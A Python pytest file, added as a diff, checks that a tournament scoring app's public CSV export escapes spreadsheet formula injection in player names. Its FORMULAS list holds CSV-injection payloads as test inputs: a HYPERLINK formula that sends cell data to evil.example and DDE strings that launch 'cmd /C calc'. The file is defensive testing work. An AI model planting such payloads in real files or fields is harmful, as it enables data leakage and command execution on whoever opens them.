@@ -1,0 +1,67 @@
+"""The public CSV: a name a spreadsheet would run as a formula arrives as text; numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+from fractions import Fraction
+from typing import Any
+
+import pytest
+from django.urls import reverse
+from security.conftest import published
+
+from scoring.exports import spreadsheet_cell
+from tournaments.models import Club
+
+pytestmark = pytest.mark.django_db
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_cell_that_opens_a_formula_is_written_as_text(text: str) -> None:
+    assert spreadsheet_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (7, "7"),
+        (-3, "-3"),
+        (Fraction(-27, 4), "-27/4"),
+        ("-6.7500", "-6.7500"),
+        ("56.25", "56.25"),
+        (None, ""),
+    ],
+)
+def test_numbers_stay_numbers(value: Any, written: str) -> None:
+    assert spreadsheet_cell(value) == written
+
+
+def test_plain_names_are_left_alone() -> None:
+    assert spreadsheet_cell("Ann Smith & Bob Jones") == "Ann Smith & Bob Jones"
+    assert spreadsheet_cell("N-S") == "N-S"
+
+
+def test_the_public_csv_neutralises_a_formula_in_a_name(client: Any, club: Club) -> None:
+    names = [*FORMULAS, *(f"Member {i}" for i in range(6))]
+    session = published(club, names, "Pairs")
+    response = client.get(reverse("public:results_csv", args=[club.slug, session.pk]))
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert len(rows) == 6
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
+            if cell.startswith("-"):
+                assert column != "names" and cell.lstrip("-").replace("/", "").replace(".", "").isdigit()
+    pair_names = {row["names"] for row in rows}
+    assert sum(n.startswith("'") for n in pair_names) >= 3
+    assert any(row["total"].startswith("-") for row in rows)  # trick scoring: someone is below average
